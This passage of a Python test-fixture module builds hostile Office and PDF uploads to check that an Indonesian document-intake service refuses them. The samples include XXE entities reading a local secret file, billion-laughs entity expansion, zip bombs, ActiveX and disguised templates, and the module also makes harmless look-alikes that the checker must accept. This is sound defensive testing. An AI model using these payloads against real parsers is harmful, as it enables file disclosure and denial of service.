            'ContentType="application/vnd.ms-office.activeX+xml"/>',
            '<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>',
        ),
    }
    extra = {
        f"{top}/activeX/activeX1.xml": control.encode(),
        f"{top}/activeX/_rels/activeX1.xml.rels": relationships(
            f'<Relationship Id="rId1" Type="{binary}" Target="activeX1.bin"/>'
        ),
        f"{top}/activeX/activeX1.bin": cfb_bytes(["Root Entry", "contents"]),
    }
    return rewrite_zip(path, edits, extra)


def make_dotx_named_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word template (.dotx content type) saved under a .docx name."""
    return _retype(
        make_docx(folder, name), "wordprocessingml.document.main", "wordprocessingml.template.main"
    )


def make_xltx_named_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """An Excel template (.xltx content type) saved under a .xlsx name."""
    return _retype(
        make_xlsx(folder, name), "spreadsheetml.sheet.main", "spreadsheetml.template.main"
    )


def _retype(path: Path, plain: str, template: str) -> Path:
    def types(xml: bytes) -> bytes:
        assert plain.encode() in xml
        return xml.replace(plain.encode(), template.encode())

    return rewrite_zip(path, {"[Content_Types].xml": types})


# --- harmless look-alikes: what active-content checks must let through ---------------------------

HYPERLINK_URL = "https://jdih.tanjabbarkab.go.id/peraturan?tahun=2025&jenis=perbup"


def make_hyperlink_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document with an ordinary web hyperlink (an External `hyperlink` relationship),
    made the way python-docx users add one."""
    document = docx.Document()
    paragraph = document.add_paragraph("Dasar hukum: ")
    rel_id = document.part.relate_to(HYPERLINK_URL, RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rel_id)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "JDIH Kabupaten"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    path = folder / name
    document.save(str(path))
    return path


def make_hyperlink_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook whose Keterangan cell links to a web page (openpyxl `cell.hyperlink`)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Kode", "Keterangan"])
    sheet.append(["IKU-1", "lihat JDIH"])
    sheet["B2"].hyperlink = HYPERLINK_URL
    path = folder / name
    book.save(path)
    return path


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
EMBEDDED_BOOK = "embeddings/Microsoft_Excel_Worksheet.xlsx"


def _workbook_bytes() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (["Bidang", "Capaian"], ["Sekretariat", 92.5], ["Arsip", 88.0]):
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


CHART_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart"


def _chart_part() -> bytes:
    """A bar chart of two values whose data lives in the embedded workbook (`c:externalData`)."""
    values = "".join(f'<c:pt idx="{i}"><c:v>{v}</c:v></c:pt>' for i, v in enumerate(("92.5", "88")))
    series = (
        '<c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>Sheet!$B$2:$B$3</c:f>'
        f'<c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="2"/>{values}'
        "</c:numCache></c:numRef></c:val></c:ser>"
    )
    axes = (
        '<c:catAx><c:axId val="1"/><c:scaling><c:orientation val="minMax"/></c:scaling>'
        '<c:delete val="0"/><c:axPos val="b"/><c:crossAx val="2"/></c:catAx>'
        '<c:valAx><c:axId val="2"/><c:scaling><c:orientation val="minMax"/></c:scaling>'
        '<c:delete val="0"/><c:axPos val="l"/><c:crossAx val="1"/></c:valAx>'
    )
    chart = (
        f'<?xml version="1.0"?><c:chartSpace xmlns:c="{CHART_NS}" xmlns:r="{REL}"><c:chart>'
        '<c:plotArea><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/>'
        f'{series}<c:axId val="1"/><c:axId val="2"/></c:barChart>{axes}</c:plotArea>'
        '</c:chart><c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData>'
        "</c:chartSpace>"
    )
    return chart.encode()


def _chart_paragraph(rel_id: str) -> str:
    drawing = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    return (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{drawing}"><wp:extent cx="5486400" '
        'cy="3200400"/><wp:docPr id="1" name="Grafik Capaian"/><a:graphic xmlns:a="http://'
        'schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://'
        f'schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="{CHART_NS}" '
        f'xmlns:r="{REL}" r:id="{rel_id}"/></a:graphicData></a:graphic></wp:inline></w:drawing>'
        "</w:r></w:p>"
    )


def make_chart_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document with a chart, as Word and LibreOffice write one: the chart part and, for
    its data, a workbook under word/embeddings/ reached by a `package` relationship from the
    chart part (data for the chart, not an object the reader can run)."""
    edits = {
        "word/document.xml": replace_body(_chart_paragraph("rIdChart1")),
        DOCUMENT_RELS: add_relationships(relationship("rIdChart1", "chart", "charts/chart1.xml")),
        "[Content_Types].xml": add_types(
            f'<Override PartName="/word/charts/chart1.xml" ContentType="{CHART_TYPE}"/>',
            f'<Default Extension="xlsx" ContentType="{XLSX_TYPE}"/>',
        ),
    }
    extra = {
        "word/charts/chart1.xml": _chart_part(),
        "word/charts/_rels/chart1.xml.rels": relationships(
            relationship("rId1", "package", f"../{EMBEDDED_BOOK}")
        ),
        f"word/{EMBEDDED_BOOK}": _workbook_bytes(),
    }
    return rewrite_zip(make_docx(folder, name), edits, extra)


def make_embedded_workbook_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document with a workbook embedded as an object (Insert > Object): the same kind of
    part as a chart's data, but reached from the document itself."""
    edits = {
        DOCUMENT_RELS: add_relationships(relationship("rIdPkg1", "package", EMBEDDED_BOOK)),
        "[Content_Types].xml": add_types(f'<Default Extension="xlsx" ContentType="{XLSX_TYPE}"/>'),
    }
    extra = {f"word/{EMBEDDED_BOOK}": _workbook_bytes()}
    return rewrite_zip(make_docx(folder, name), edits, extra)


def make_fields_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document with the everyday fields: page numbers, a date, a table of contents and a
    hyperlink field (none of them DDE)."""
    body = "".join(
        [
            "<w:p><w:fldSimple w:instr=' PAGE   \\* MERGEFORMAT '><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>",
            field_paragraph([' DATE \\@ "d MMMM yyyy" ']),
            field_paragraph([" TOC \\o ", '"1-3" \\h \\z \\u ']),
            field_paragraph([' HYPERLINK "https://contoh.invalid/tanpa-dde" ']),
        ]
    )
    return rewrite_zip(make_docx(folder, name), {"word/document.xml": replace_body(body)})


# --- zip bombs -----------------------------------------------------------------------------------


def make_zip_bomb_members(folder: Path, name: str = "bom.docx", count: int = 2001) -> Path:
    """A Word document carrying `count` extra tiny members (default: one over the limit)."""
    path = make_docx(folder, name)
    extra = {f"word/media/bagian{i:05d}.xml": b"<a/>" for i in range(count)}
    return rewrite_zip(path, {}, extra)


def make_zip_bomb_ratio(folder: Path, name: str = "bom.xlsx", size: int = 16 * MIB) -> Path:
    """A workbook with one extra member of `size` zero bytes (compression ratio about 1000:1)."""
    path = make_xlsx(folder, name)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("xl/media/isi.bin", "w") as member,
    ):
        block = bytes(MIB)
        for _ in range(size // MIB):
            member.write(block)
        member.write(bytes(size % MIB))
    return path


def make_zip_bomb_total(folder: Path, name: str = "bom.xlsx", size: int = 2 * MIB) -> Path:
    """A workbook with an incompressible extra member of `size` bytes (for a lowered
    `max_uncompressed` limit; the ratio stays normal so only the total trips)."""
    path = make_xlsx(folder, name)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/media/foto.bin", os.urandom(size))
    return path


# --- XML attacks ---------------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def xxe_doctype(target: Path) -> str:
    """A DOCTYPE declaring entity `xxe` as the content of the local file `target`."""
    return f'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "{target.resolve().as_uri()}">]>'


def _inject(xml: bytes, doctype: str, entity: str) -> bytes:
    head, sep, rest = xml.partition(b"?>")
    if not sep:
        head, rest = b"", xml
    else:
        head += sep
    return head + doctype.encode() + rest.replace(MARKER.encode(), f"&{entity};".encode())


def make_xxe_docx(folder: Path, target: Path, name: str = "draf.docx") -> Path:
    """A Word document whose body text is an external entity reading the file `target`."""
    path = make_docx(folder, name)
    edit = {"word/document.xml": lambda xml: _inject(xml, xxe_doctype(target), "xxe")}
    return rewrite_zip(path, edit)


def make_billion_laughs_docx(folder: Path, name: str = "draf.docx") -> Path:
    """A Word document whose body text is a nested entity expanding to 10^9 "lol"s."""
    path = make_docx(folder, name)
    return rewrite_zip(
        path, {"word/document.xml": lambda xml: _inject(xml, BILLION_LAUGHS, "lol9")}
    )


def _marker_sheet(folder: Path, name: str) -> Path:
    return make_xlsx(folder, name, [["Kode", "Keterangan"], ["IKU-1", MARKER]])


def make_xxe_xlsx(folder: Path, target: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook whose cell B2 is an external entity reading the file `target`."""
    path = _marker_sheet(folder, name)
    sheet = "xl/worksheets/sheet1.xml"
    return rewrite_zip(path, {sheet: lambda xml: _inject(xml, xxe_doctype(target), "xxe")})


def make_billion_laughs_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook whose cell B2 is a billion-laughs entity."""
    path = _marker_sheet(folder, name)
    sheet = "xl/worksheets/sheet1.xml"
    return rewrite_zip(path, {sheet: lambda xml: _inject(xml, BILLION_LAUGHS, "lol9")})


# --- spreadsheet content and Office side files ---------------------------------------------------


def make_uncached_formula_xlsx(folder: Path, name: str = "formulir.xlsx") -> Path:
    """A workbook whose Realisasi cell is a formula never calculated (no cached value),
    as a program, not Excel, would save it."""
    return make_xlsx(folder, name, [["Kode", "Realisasi"], ["IKU-1", "=2*5"]])


def make_excel_lock_file(folder: Path, name: str = "formulir.xlsx") -> Path:
    """The owner file Excel keeps beside a workbook that is open (`~$formulir.xlsx`)."""
    path = folder / f"~${name}"
    path.write_bytes(b"\x05pegawai".ljust(165, b" "))
    return path


# --- the corpus ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """One hostile kind: how to make it, where it is dropped, what the reason must say."""

    kind: str
    make: Callable[[Path], Path]
    accepted: frozenset[str]
    reason: str


XLSX = frozenset({"xlsx"})
DOCX = frozenset({"docx"})
PDF = frozenset({"pdf"})
DISPOSISI = frozenset({"pdf", "docx", "image"})


def _outside_secret(folder: Path) -> Path:
    secret = folder.parent / f"{folder.name}-rahasia.txt"
    secret.write_text("RAHASIA-DI-LUAR-ROOT", encoding="utf-8")
    return secret


INSERTION = 'w:ins w:id="1" w:author="Analis" w:date="2026-07-01T08:00:00Z"'
"""Wraps a field's runs in a tracked insertion: Word runs such a field like any other."""

ACTIVE: tuple[Hostile, ...] = (
    Hostile("dde-fldsimple-docx", make_dde_fldsimple_docx, DOCX, "field DDE (DDE …)"),
    Hostile("ddeauto-split-docx", make_ddeauto_split_docx, DOCX, "field DDE (DDEAUTO …)"),
    Hostile("remote-template-docx", make_remote_template_docx, DOCX, "templat (attachedTemplate)"),
    Hostile("linked-image-docx", make_linked_image_docx, DOCX, "gambar tertaut (linked picture)"),
    Hostile("ole-object-docx", make_ole_object_docx, DOCX, "dokumen berisi objek sematan (OLE)"),
    Hostile("activex-docx", make_activex_docx, DOCX, "dokumen berisi kontrol ActiveX"),
    Hostile("dotx-named-docx", make_dotx_named_docx, DOCX, "templat Word (.dotx)"),
    Hostile("external-link-xlsx", make_xlsx_external_link, XLSX, "tautan ke buku kerja lain"),
    Hostile("dde-link-xlsx", make_xlsx_dde_link, XLSX, "buku kerja berisi tautan DDE"),
    Hostile("dde-formula-xlsx", make_xlsx_dde_formula, XLSX, "sel berisi rumus DDE"),
    Hostile("ole-object-xlsx", make_ole_object_xlsx, XLSX, "buku kerja berisi objek sematan (OLE)"),
    Hostile("activex-xlsx", make_activex_xlsx, XLSX, "buku kerja berisi kontrol ActiveX"),
    Hostile("xltx-named-xlsx", make_xltx_named_xlsx, XLSX, "templat Excel (.xltx)"),
)
"""Every kind of active content, each refused at every inbox that takes its file kind."""

CORPUS: tuple[Hostile, ...] = (
    Hostile("zero-byte", make_zero_byte, XLSX, "file kosong"),
    Hostile("huge", make_huge, PDF, "terlalu besar"),
    Hostile("pdf-named-xlsx", make_pdf_named_xlsx, XLSX, "bukan buku kerja Excel"),
    Hostile("docx-named-xlsx", make_docx_named_xlsx, XLSX, "bukan buku kerja Excel"),
    Hostile("xlsx-named-docx", make_xlsx_named_docx, DOCX, "bukan dokumen Word"),
    Hostile("text-named-pdf", make_text_named_pdf, PDF, "bukan PDF"),
    Hostile("text-named-docx", make_text_named_docx, DOCX, "bukan dokumen Word"),
    Hostile("plain-zip-named-docx", make_plain_zip_named_docx, DOCX, "arsip zip"),
    Hostile("ods-named-xlsx", make_ods_named_xlsx, XLSX, "OpenDocument"),
    Hostile("xlsb", make_xlsb, XLSX, "buku kerja Excel Biner (.xlsb) tidak diterima"),
    Hostile(
        "rtf-named-docx", lambda d: make_rtf(d, "draf.docx"), DOCX, "format RTF tidak diterima"
    ),
    Hostile("biff4-xls", make_biff4_xls, XLSX, "format lama"),
    Hostile("truncated-xlsx", make_truncated_xlsx, XLSX, "terpotong"),
    Hostile("truncated-docx", make_truncated_docx, DOCX, "terpotong"),
    Hostile("truncated-pdf", make_truncated_pdf, PDF, "terpotong"),
    Hostile("truncated-png", make_truncated_png, DISPOSISI, "terpotong"),
    Hostile("truncated-gif", make_truncated_gif, DISPOSISI, "terpotong"),
    Hostile("truncated-bmp", make_truncated_bmp, DISPOSISI, "terpotong"),
    Hostile("encrypted-pdf", make_encrypted_pdf, PDF, "dilindungi kata sandi"),
    Hostile("certificate-pdf", make_certificate_pdf, PDF, "PDF dikunci dengan sertifikat digital"),
    Hostile("pdf-without-pages", make_pdf_without_pages, PDF, "tidak berisi halaman"),
    Hostile("password-xlsx", make_password_xlsx, XLSX, "file Excel dilindungi kata sandi"),
    Hostile("password-docx", make_password_docx, DOCX, "file Word dilindungi kata sandi"),
    Hostile(
        "password-xlsm",
        lambda d: make_password_xlsx(d, "formulir.xlsm"),
        XLSX,
        "file Excel dilindungi kata sandi",
    ),
    Hostile(
        "password-docm",
        lambda d: make_password_docx(d, "draf.docm"),
        DOCX,
        "file Word dilindungi kata sandi",
    ),
    Hostile("legacy-xls", make_legacy_xls, XLSX, "format lama"),
    Hostile("xlsm", make_xlsm, XLSX, "berisi makro (.xlsm)"),
    Hostile("docm", make_docm, DOCX, "berisi makro (.docm)"),
    Hostile("zip-bomb-members", make_zip_bomb_members, DOCX, "terlalu banyak bagian"),
    Hostile("zip-bomb-ratio", make_zip_bomb_ratio, XLSX, "rasio pemampatan"),
    Hostile("xxe-docx", lambda d: make_xxe_docx(d, _outside_secret(d)), DOCX, "DOCTYPE"),
    Hostile("xxe-xlsx", lambda d: make_xxe_xlsx(d, _outside_secret(d)), XLSX, "DOCTYPE"),
    Hostile("billion-laughs-docx", make_billion_laughs_docx, DOCX, "DOCTYPE"),
    Hostile("billion-laughs-xlsx", make_billion_laughs_xlsx, XLSX, "DOCTYPE"),
    *ACTIVE,
)
"""Every hostile kind `safety.check_drop` refuses, with the kinds of the inbox it targets."""
